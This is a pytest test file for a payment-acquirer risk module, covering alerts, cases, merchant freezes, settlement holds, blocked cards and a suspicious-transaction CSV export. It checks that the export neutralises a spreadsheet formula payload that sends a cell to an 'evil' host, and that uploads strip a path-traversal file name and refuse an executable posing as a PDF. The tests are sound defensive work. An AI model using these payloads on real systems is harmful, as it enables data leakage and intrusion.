"""Alerts, cases, freezes, holds and blocked cards (poshub.risk.cases, poshub.risk.holds),
at the service level on SQLite and PostgreSQL: every action leaves a case event and an
audit entry, a closed case refuses change, evidence cannot be deleted, and settlement sees
exactly the holds in force."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from collections.abc import Callable
from typing import Any, TypeVar

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import delete, select, text, update
from sqlalchemy.exc import DatabaseError
from sqlalchemy.orm import Session

from poshub.bootstrap import AppState
from poshub.core.audit import AuditEntry
from poshub.core.clock import business_date
from poshub.core.db import utcnow
from poshub.core.errors import Conflict, NotFound, PosHubError, ValidationFailed
from poshub.risk import cases, holds, report
from poshub.risk.models import (
    RiskAlert,
    RiskCase,
    RiskCaseAttachment,
    RiskCaseEvent,
    RiskCaseItem,
)
from poshub.staff.service import Principal
from tests.factories import EXECUTABLE_AS_PDF, PNG
from tests.gateway.journal_rows import PAN, PAN_MASKED, PAN_TOKEN
from tests.risk.cases_support import (
    DECLINED,
    ELSEWHERE,
    QR_SALE,
    SALE,
    World,
    principal,
    world,
)

R = TypeVar("R")
INSTITUTION = report.Institution(name="PosHub 示范收单机构", code="898", licence="Z2000000000001")


@pytest.fixture
def risk(client: TestClient, state: AppState) -> World:
    return world(client, state)


@pytest.fixture
def officer(state: AppState) -> Principal:
    return principal(state)


class Act:
    """Run service calls in committed transactions, as the web layer does."""

    def __init__(self, state: AppState, officer: Principal) -> None:
        self.state = state
        self.officer = officer

    def __call__(self, fn: Callable[[Session], R]) -> R:
        with self.state.db.unit_of_work() as uow:
            uow.session.expire_on_commit = False  # the test reads what it got back
            result = fn(uow.session)
            uow.commit()
            return result

    def on_case(self, reference: str, fn: Callable[[Session, RiskCase], R]) -> R:
        return self(lambda s: fn(s, cases.open_case_for_update(s, reference)))

    def refused(self, fn: Callable[[Session], object]) -> PosHubError:
        with self.state.db.unit_of_work() as uow, pytest.raises(PosHubError) as caught:
            fn(uow.session)
        return caught.value

    def read(self, fn: Callable[[Session], R]) -> R:
        with self.state.db.unit_of_work(read_only=True) as uow:
            result = fn(uow.session)
            uow.session.expunge_all()  # kept as read, past the rollback that ends it
            return result


@pytest.fixture
def act(state: AppState, officer: Principal) -> Act:
    return Act(state, officer)


def _field(error: PosHubError) -> list[str]:
    assert isinstance(error, ValidationFailed), error
    return [e.field for e in error.errors]


def _open(act: Act, risk: World, alert_ids: list[int] | None = None) -> str:
    return act(
        lambda s: (
            cases.open_case(
                s,
                act.officer,
                title="Card testing at the shop",
                alert_ids=risk.alert_ids if alert_ids is None else alert_ids,
                note="Six declines in ten minutes.",
                now=utcnow(),
            ).reference
        )
    )


def _events(act: Act, reference: str) -> list[str]:
    def read(s: Session) -> list[str]:
        case = cases.get_case(s, reference)
        return list(
            s.execute(
                select(RiskCaseEvent.action)
                .where(RiskCaseEvent.case_id == case.id)
                .order_by(RiskCaseEvent.id)
            ).scalars()
        )

    return act.read(read)


def _audited(act: Act, entity_id: str, entity_type: str = "risk_case") -> list[str]:
    return act.read(
        lambda s: list(
            s.execute(
                select(AuditEntry.action)
                .where(AuditEntry.entity_type == entity_type, AuditEntry.entity_id == entity_id)
                .order_by(AuditEntry.seq)
            ).scalars()
        )
    )


# --- Alerts and opening a case --------------------------------------------------------------


def test_a_case_opened_from_alerts_takes_them_and_their_transactions_as_evidence(
    act: Act, risk: World
) -> None:
    reference = _open(act, risk)
    today = business_date(utcnow())
    assert reference == f"RC-{today:%Y%m%d}-0001"

    detail = act.read(lambda s: cases.case_detail(s, cases.get_case(s, reference)))
    assert detail.case.mid == risk.mid
    assert detail.case.tid == risk.tid  # every alert was on that terminal
    assert detail.case.assigned_to == "risk"
    assert [a.id for a in detail.alerts] == risk.alert_ids
    assert {a.status for a in detail.alerts} == {"in_case"}
    assert [t.rrn for t in detail.transactions] == [SALE, DECLINED]
    assert [e.action for e in detail.events] == ["opened"]
    assert detail.notes[0].note == "Six declines in ten minutes."
    assert [a.rule_code for a in detail.location_trail] == ["relocation"]
    assert _audited(act, reference) == ["risk.case_opened"]

    # Taken alerts leave the queue; the next case of the day counts on.
    queue = act.read(lambda s: cases.alert_queue(s, cases.parse_alert_filter()))
    assert [a.id for a in queue.rows] == [risk.other_alert_id]
    again = act(
        lambda s: cases.open_case(s, act.officer, title="By hand", mid=risk.mid, now=utcnow())
    )
    assert again.reference == f"RC-{today:%Y%m%d}-0002"
    assert again.tid is None


def test_alerts_already_taken_of_several_merchants_or_unknown_are_refused(
    act: Act, risk: World
) -> None:
    mixed = act.refused(
        lambda s: cases.open_case(
            s,
            act.officer,
            title="x",
            alert_ids=[risk.alert_ids[0], risk.other_alert_id],
            now=utcnow(),
        )
    )
    assert _field(mixed) == ["alert_ids"]
    assert isinstance(
        act.refused(
            lambda s: cases.open_case(s, act.officer, title="x", alert_ids=[999], now=utcnow())
        ),
        NotFound,
    )
    assert _field(
        act.refused(
            lambda s: cases.open_case(s, act.officer, title=" ", mid=risk.mid, now=utcnow())
        )
    ) == ["title"]
    _open(act, risk, risk.alert_ids[:1])
    taken = act.refused(
        lambda s: cases.open_case(
            s, act.officer, title="x", alert_ids=risk.alert_ids[:1], now=utcnow()
        )
    )
    assert isinstance(taken, Conflict)
    assert taken.code == "alert_not_open"


@pytest.mark.parametrize(
    ("mid", "tid", "field"),
    [
        (None, None, "mid"),
        ("12345", None, "mid"),
        ("898340154119998", None, "mid"),
        (None, "99999999", "tid"),
    ],
)
def test_a_case_by_hand_names_a_real_merchant_or_terminal(
    act: Act, risk: World, mid: str | None, tid: str | None, field: str
) -> None:
    error = act.refused(
        lambda s: cases.open_case(s, act.officer, title="By hand", mid=mid, tid=tid, now=utcnow())
    )
    assert _field(error) == [field]
    by_tid = act(
        lambda s: cases.open_case(s, act.officer, title="By hand", tid=risk.tid, now=utcnow())
    )
    assert (by_tid.mid, by_tid.tid) == (risk.mid, risk.tid)


def test_dismissing_alerts_needs_a_reason_and_open_alerts(act: Act, risk: World) -> None:
    first = risk.alert_ids[0]
    assert _field(
        act.refused(
            lambda s: cases.dismiss_alerts(s, act.officer, [first], reason="", now=utcnow())
        )
    ) == ["reason"]
    assert _field(
        act.refused(lambda s: cases.dismiss_alerts(s, act.officer, [], reason="x", now=utcnow()))
    ) == ["alert_ids"]
    act(
        lambda s: cases.dismiss_alerts(
            s, act.officer, [first], reason="The owner's own card.", now=utcnow()
        )
    )
    assert act.read(lambda s: cases.get_alert(s, first).status) == "dismissed"
    assert _audited(act, str(first), "risk_alert") == ["risk.alert_dismissed"]
    again = act.refused(
        lambda s: cases.dismiss_alerts(s, act.officer, [first], reason="x", now=utcnow())
    )
    assert isinstance(again, Conflict)

    dismissed = act.read(
        lambda s: cases.alert_queue(s, cases.parse_alert_filter(status="dismissed")).rows
    )
    assert [a.id for a in dismissed] == [first]


def test_the_queue_filters_and_refuses_bad_filters(act: Act, risk: World) -> None:
    def ids(**typed: Any) -> list[int]:
        return [
            a.id
            for a in act.read(
                lambda s: cases.alert_queue(s, cases.parse_alert_filter(**typed)).rows
            )
        ]

    newest_first = [risk.other_alert_id, *reversed(risk.alert_ids)]
    assert ids() == newest_first
    assert ids(rule="card_testing") == [risk.alert_ids[1]]
    assert ids(mid=risk.mid) == list(reversed(risk.alert_ids))
    assert ids(tid=risk.tid, page_size=1, page=2) == [risk.alert_ids[1]]
    today = business_date(utcnow())
    assert ids(date_from=today.isoformat(), date_to=today.isoformat()) == newest_first
    assert ids(date_to=(today - dt.timedelta(days=1)).isoformat()) == []
    with pytest.raises(ValidationFailed) as caught:
        cases.parse_alert_filter(
            status="closed",
            rule="nope",
            mid="1",
            tid="x",
            date_from="2026-13-01",
            page=0,
            page_size=201,
        )
    assert [e.field for e in caught.value.errors] == [
        "status",
        "rule",
        "mid",
        "tid",
        "date_from",
        "page",
        "page_size",
    ]


# --- Evidence -----------------------------------------------------------------------------------


def test_linking_transactions_notes_and_attachments(act: Act, risk: World, state: AppState) -> None:
    reference = _open(act, risk, risk.alert_ids[:1])
    on = act.on_case

    assert _field(
        act.refused(
            lambda s: cases.link_transaction(
                s, act.officer, cases.get_case(s, reference), "12345", now=utcnow()
            )
        )
    ) == ["rrn"]
    assert isinstance(
        act.refused(
            lambda s: cases.link_transaction(
                s, act.officer, cases.get_case(s, reference), "999999999999", now=utcnow()
            )
        ),
        NotFound,
    )
    duplicate = act.refused(
        lambda s: cases.link_transaction(
            s, act.officer, cases.get_case(s, reference), SALE, now=utcnow()
        )
    )
    assert isinstance(duplicate, Conflict)
    on(reference, lambda s, c: cases.link_transaction(s, act.officer, c, ELSEWHERE, now=utcnow()))
    on(reference, lambda s, c: cases.link_alert(s, act.officer, c, risk.alert_ids[1], now=utcnow()))
    other = act.refused(
        lambda s: cases.link_alert(
            s, act.officer, cases.get_case(s, reference), risk.other_alert_id, now=utcnow()
        )
    )
    assert _field(other) == ["alert_id"]
    on(
        reference,
        lambda s, c: cases.add_note(s, act.officer, c, "Called the shop: no answer.", now=utcnow()),
    )
    assert _field(
        act.refused(
            lambda s: cases.add_note(
                s, act.officer, cases.get_case(s, reference), "  ", now=utcnow()
            )
        )
    ) == ["note"]

    store = state.onboarding.store
    attachment = on(
        reference,
        lambda s, c: cases.add_attachment(
            s, store, act.officer, c, file_name="../../police report.png", content=PNG, now=utcnow()
        ),
    )
    assert attachment.filename == "police report.png"
    assert attachment.media_type == "image/png"
    assert store.get(attachment.sha256).startswith(b"\x89PNG")
    on_disk = store.path_for(attachment.sha256).read_bytes()
    assert not on_disk.startswith(b"\x89PNG")  # encrypted at rest
    refused = act.refused(
        lambda s: cases.add_attachment(
            s,
            store,
            act.officer,
            cases.get_case(s, reference),
            file_name="x.pdf",
            content=EXECUTABLE_AS_PDF,
            now=utcnow(),
        )
    )
    assert _field(refused) == ["file"]

    detail = act.read(lambda s: cases.case_detail(s, cases.get_case(s, reference)))
    assert [t.rrn for t in detail.transactions] == [SALE, DECLINED, ELSEWHERE]
    assert [e.action for e in detail.events] == [
        "opened",
        "transaction_linked",
        "alert_linked",
        "note_added",
        "attachment_added",
    ]
    assert _audited(act, reference) == [
        "risk.case_opened",
        "risk.case_transaction_linked",
        "risk.case_alert_linked",
        "risk.case_note_added",
        "risk.case_attachment_added",
    ]


def test_evidence_is_never_deleted_nor_an_event_rewritten(
    act: Act, risk: World, state: AppState
) -> None:
    reference = _open(act, risk)
    act.on_case(
        reference,
        lambda s, c: cases.add_attachment(
            s, state.onboarding.store, act.officer, c, file_name="a.png", content=PNG, now=utcnow()
        ),
    )
    for statement in (
        delete(RiskCaseEvent),
        delete(RiskCaseItem),
        delete(RiskAlert),
        delete(RiskCaseAttachment),
        update(RiskCaseEvent).values(note="rewritten"),
    ):
        with (
            state.db.unit_of_work() as uow,
            pytest.raises(DatabaseError, match="never deleted or rewritten"),
        ):
            uow.session.execute(statement)
    counts = act.read(
        lambda s: [
            s.execute(text(f"SELECT count(*) FROM {table}")).scalar_one()  # noqa: S608 - fixed names
            for table in (
                "risk_case_events",
                "risk_case_items",
                "risk_alerts",
                "risk_case_attachments",
            )
        ]
    )
    assert counts == [2, 5, 4, 1]


# --- Freezes, holds and what settlement sees ---------------------------------------------------


def test_freeze_release_and_settlement_holds(act: Act, risk: World) -> None:
    reference = _open(act, risk)
    on = act.on_case
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid))

    frozen = on(
        reference,
        lambda s, c: cases.freeze_merchant(s, act.officer, c, reason="Card testing.", now=utcnow()),
    )
    assert (frozen.scope, frozen.subject, frozen.blocks_authorization, frozen.holds_settlement) == (
        "merchant",
        risk.mid,
        True,
        True,
    )
    assert act.read(lambda s: holds.settlement_held(s, risk.mid))
    assert act.read(lambda s: holds.settlement_held(s, risk.mid, SALE))
    assert act.read(holds.held_merchants) == {risk.mid}
    twice = act.refused(
        lambda s: cases.freeze_merchant(
            s, act.officer, cases.get_case(s, reference), reason="x", now=utcnow()
        )
    )
    assert isinstance(twice, Conflict)
    assert _field(
        act.refused(
            lambda s: cases.freeze_merchant(
                s, act.officer, cases.get_case(s, reference), reason="", now=utcnow()
            )
        )
    ) == ["reason"]

    terminal = on(
        reference,
        lambda s, c: cases.freeze_terminal(
            s, act.officer, c, tid=risk.tid, reason="Moved 400 km.", now=utcnow()
        ),
    )
    assert (terminal.scope, terminal.blocks_authorization, terminal.holds_settlement) == (
        "terminal",
        True,
        False,
    )
    assert _field(
        act.refused(
            lambda s: cases.freeze_terminal(
                s,
                act.officer,
                cases.get_case(s, reference),
                tid="19999999",
                reason="x",
                now=utcnow(),
            )
        )
    ) == ["tid"]

    assert _field(
        act.refused(
            lambda s: cases.release(
                s, act.officer, cases.get_case(s, reference), frozen.id, reason="", now=utcnow()
            )
        )
    ) == ["reason"]
    assert isinstance(
        act.refused(
            lambda s: cases.release(
                s, act.officer, cases.get_case(s, reference), 99_999, reason="x", now=utcnow()
            )
        ),
        NotFound,
    )
    released = on(
        reference,
        lambda s, c: cases.release(
            s, act.officer, c, frozen.id, reason="The owner explained.", now=utcnow()
        ),
    )
    assert released.released_by == "risk"
    assert released.release_reason == "The owner explained."
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid))
    assert act.read(holds.held_merchants) == set()
    again = act.refused(
        lambda s: cases.release(
            s, act.officer, cases.get_case(s, reference), frozen.id, reason="x", now=utcnow()
        )
    )
    assert isinstance(again, Conflict)

    # Each action: one case event and one audit entry.
    assert _events(act, reference) == ["opened", "merchant_frozen", "terminal_frozen", "released"]
    assert _audited(act, reference) == [
        "risk.case_opened",
        "risk.merchant_frozen",
        "risk.terminal_frozen",
        "risk.freeze_released",
    ]
    in_force = act.read(lambda s: cases.freezes_in_force(s, mid=risk.mid))
    assert [f.id for f in in_force] == [terminal.id]


def test_settlement_holds_of_a_merchant_and_of_one_transaction(act: Act, risk: World) -> None:
    reference = _open(act, risk)
    on = act.on_case
    held = on(
        reference,
        lambda s, c: cases.hold_settlement(
            s, act.officer, c, reason="Chargebacks expected.", rrn=SALE, now=utcnow()
        ),
    )
    assert (held.scope, held.subject, held.blocks_authorization) == ("transaction", SALE, False)
    assert act.read(lambda s: holds.settlement_held(s, risk.mid, SALE))
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid, DECLINED))
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid))
    assert act.read(lambda s: holds.held_transactions(s, risk.mid)) == {SALE}
    assert act.read(holds.held_merchants) == set()
    # Another merchant's transaction, an unknown or malformed RRN: refused.
    assert _field(
        act.refused(
            lambda s: cases.hold_settlement(
                s,
                act.officer,
                cases.get_case(s, reference),
                reason="x",
                rrn=ELSEWHERE,
                now=utcnow(),
            )
        )
    ) == ["rrn"]
    assert isinstance(
        act.refused(
            lambda s: cases.hold_settlement(
                s,
                act.officer,
                cases.get_case(s, reference),
                reason="x",
                rrn="000000000999",
                now=utcnow(),
            )
        ),
        NotFound,
    )
    assert _field(
        act.refused(
            lambda s: cases.hold_settlement(
                s, act.officer, cases.get_case(s, reference), reason="x", rrn="12", now=utcnow()
            )
        )
    ) == ["rrn"]

    whole = on(
        reference,
        lambda s, c: cases.hold_settlement(s, act.officer, c, reason="Review.", now=utcnow()),
    )
    assert (whole.scope, whole.blocks_authorization, whole.holds_settlement) == (
        "merchant",
        False,
        True,
    )
    assert act.read(lambda s: holds.settlement_held(s, risk.mid, DECLINED))
    # A merchant already held can still be frozen (authorizations stop too).
    on(
        reference,
        lambda s, c: cases.freeze_merchant(s, act.officer, c, reason="Escalated.", now=utcnow()),
    )

    # As of a business date: the holds made today were not in force yesterday.
    today = business_date(utcnow())
    assert act.read(lambda s: holds.settlement_held(s, risk.mid, on=today))
    assert not act.read(
        lambda s: holds.settlement_held(s, risk.mid, on=today - dt.timedelta(days=1))
    )

    def release_all(s: Session, c: RiskCase) -> None:
        for row in cases.freezes_in_force(s, mid=risk.mid):
            cases.release(s, act.officer, c, row.id, reason="Cleared.", now=utcnow())

    on(reference, release_all)
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid, SALE))
    assert act.read(lambda s: holds.held_transactions(s, risk.mid)) == set()
    # Released today: still held at the end of yesterday? No (made today); today: no.
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid, SALE, on=today))
    assert _events(act, reference)[1:4] == [
        "transaction_held",
        "settlement_held",
        "merchant_frozen",
    ]


def test_is_held_is_the_rule() -> None:
    class Row:
        def __init__(self, scope: str, subject: str, holds_settlement: bool = True) -> None:
            self.scope, self.subject, self.holds_settlement = scope, subject, holds_settlement

    mid = "898340154110001"
    assert holds.is_held([Row("merchant", mid)], mid)
    assert holds.is_held([Row("merchant", mid)], mid, "000000000001")
    assert not holds.is_held([Row("merchant", mid, holds_settlement=False)], mid)
    assert not holds.is_held([Row("terminal", "10000001", holds_settlement=False)], mid)
    assert holds.is_held([Row("transaction", "000000000001")], mid, "000000000001")
    assert not holds.is_held([Row("transaction", "000000000001")], mid)
    assert not holds.is_held([Row("transaction", "000000000001")], mid, "000000000002")


# --- Closing ------------------------------------------------------------------------------------


def test_closing_with_freezes_in_force_and_read_only_afterwards(act: Act, risk: World) -> None:
    reference = _open(act, risk)
    on = act.on_case
    frozen = on(
        reference,
        lambda s, c: cases.freeze_merchant(s, act.officer, c, reason="Fraud.", now=utcnow()),
    )

    def close(
        outcome: str, keep: bool = False, note: str = "Confirmed with the issuer."
    ) -> Callable[[Session], object]:
        return lambda s: cases.close_case(
            s,
            act.officer,
            cases.open_case_for_update(s, reference),
            outcome=outcome,
            note=note,
            keep_freezes=keep,
            now=utcnow(),
        )

    assert _field(act.refused(close("solved"))) == ["outcome"]
    assert _field(act.refused(close("fraud_confirmed", note=""))) == ["note"]
    still_frozen = act.refused(close("fraud_confirmed"))
    assert isinstance(still_frozen, Conflict)
    assert still_frozen.code == "case_has_freezes"
    assert _field(act.refused(close("false_positive", keep=True))) == ["keep_freezes"]

    act(close("merchant_terminated", keep=True))
    closed = act.read(lambda s: cases.get_case(s, reference))
    assert (closed.status, closed.outcome, closed.closed_by) == (
        "closed",
        "merchant_terminated",
        "risk",
    )
    assert act.read(lambda s: holds.settlement_held(s, risk.mid))  # kept on purpose

    for action in (
        lambda s: cases.open_case_for_update(s, reference),
        close("fraud_confirmed"),
    ):
        refused = act.refused(action)
        assert isinstance(refused, Conflict)
        assert refused.code == "case_closed"

    # A later case about the merchant releases what the closed one kept.
    later = act(
        lambda s: cases.open_case(s, act.officer, title="Reinstatement", mid=risk.mid, now=utcnow())
    )
    act.on_case(
        later.reference,
        lambda s, c: cases.release(
            s, act.officer, c, frozen.id, reason="Reinstated by the committee.", now=utcnow()
        ),
    )
    assert not act.read(lambda s: holds.settlement_held(s, risk.mid))
    assert _events(act, reference)[-1] == "closed"
    assert _audited(act, reference)[-1] == "risk.case_closed"


def test_assigning_to_a_risk_officer(act: Act, risk: World) -> None:
    reference = _open(act, risk)
    assert _field(
        act.refused(
            lambda s: cases.assign(
                s, act.officer, cases.get_case(s, reference), "ops", now=utcnow()
            )
        )
    ) == ["assignee"]
    act.on_case(reference, lambda s, c: cases.assign(s, act.officer, c, "risk", now=utcnow()))
    assert _events(act, reference)[-1] == "assigned"
    assert _audited(act, reference)[-1] == "risk.case_assigned"


# --- The suspicious-transaction report ---------------------------------------------------------


def test_the_report_lists_the_case_and_masked_transactions(act: Act, risk: World) -> None:
    reference = act(
        lambda s: (
            cases.open_case(
                s,
                act.officer,
                title='=HYPERLINK("http://evil/?"&A1,"x")',
                alert_ids=risk.alert_ids,
                now=utcnow(),
            ).reference
        )
    )
    act.on_case(
        reference,
        lambda s, c: cases.add_note(s, act.officer, c, "Night-time round amounts.", now=utcnow()),
    )
    _content, data = act(
        lambda s: cases.export_report(
            s, act.officer, cases.get_case(s, reference), INSTITUTION, now=utcnow()
        )
    )
    assert data.startswith("\ufeff".encode())
    body = data.decode("utf-8-sig")
    assert PAN not in body
    assert PAN_TOKEN not in body
    rows = list(csv.reader(io.StringIO(body)))
    header = {row[0]: row[1] for row in rows if len(row) == 2}
    assert header["报告类型"] == "可疑交易报告"
    assert header["案件编号"] == reference
    assert header["商户编号"] == risk.mid
    assert header["案件名称"].startswith("'=HYPERLINK")  # neutralised for spreadsheets
    assert header["案件状态"] == "调查中"
    assert header["触发规则"] == "同一卡片交易过于频繁；试卡（连续拒绝）；终端移机"
    assert header["可疑交易笔数"] == "2"
    assert header["可疑交易金额合计"] == "7,008.00"
    assert "Night-time round amounts." in header["可疑行为描述"]
    table = rows[rows.index([]) + 1 :]
    assert table[0][:2] == ["交易时间", "检索参考号"]
    assert [(r[1], r[8]) for r in table[1:]] == [(SALE, PAN_MASKED), (DECLINED, PAN_MASKED)]
    assert [(r[4], r[10]) for r in table[1:]] == [("消费", "成功"), ("消费", "拒绝")]
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", table[1][0])
    assert _events(act, reference)[-1] == "report_exported"
    assert _audited(act, reference)[-1] == "risk.report_exported"


# --- Blocked cards -----------------------------------------------------------------------------------


def test_blocking_a_card_from_a_transaction(act: Act, risk: World) -> None:
    reference = _open(act, risk)
    assert _field(
        act.refused(
            lambda s: cases.block_card(s, act.officer, rrn=QR_SALE, reason="x", now=utcnow())
        )
    ) == ["rrn"]
    card = act(
        lambda s: cases.block_card(
            s,
            act.officer,
            rrn=SALE,
            reason="Reported stolen.",
            case=cases.open_case_for_update(s, reference),
            now=utcnow(),
        )
    )
    assert (card.pan_token, card.pan_masked) == (PAN_TOKEN, PAN_MASKED)
    twice = act.refused(
        lambda s: cases.block_card(s, act.officer, rrn=DECLINED, reason="x", now=utcnow())
    )
    assert isinstance(twice, Conflict)  # the same card
    assert [c.id for c in act.read(cases.blocked_cards)] == [card.id]
    assert _events(act, reference)[-1] == "card_blocked"
    act(
        lambda s: cases.release_card(
            s, act.officer, card.id, reason="Found by its owner.", now=utcnow()
        )
    )
    assert act.read(cases.blocked_cards) == []
    assert isinstance(
        act.refused(
            lambda s: cases.release_card(s, act.officer, card.id, reason="x", now=utcnow())
        ),
        Conflict,
    )
    assert _audited(act, str(card.id), "risk_blocked_card") == [
        "risk.card_blocked",
        "risk.card_released",
    ]


def test_case_list_and_merchant_summary(act: Act, risk: World) -> None:
    first = _open(act, risk, risk.alert_ids[:1])
    second = act(
        lambda s: cases.open_case(s, act.officer, title="By hand", mid=risk.mid, now=utcnow())
    ).reference
    act.on_case(
        second,
        lambda s, c: cases.hold_settlement(s, act.officer, c, reason="Review.", now=utcnow()),
    )
    listed = act.read(lambda s: cases.case_list(s))
    assert [c.reference for c in listed.rows] == [second, first]
    with pytest.raises(ValidationFailed) as caught:
        act.read(lambda s: cases.case_list(s, status="pending", mid="x"))
    assert [e.field for e in caught.value.errors] == ["status", "mid"]
    summary = act.read(lambda s: cases.merchant_risk(s, risk.mid))
    assert [f.holds_settlement for f in summary.freezes] == [True]
    assert {c.reference for c in summary.open_cases} == {first, second}
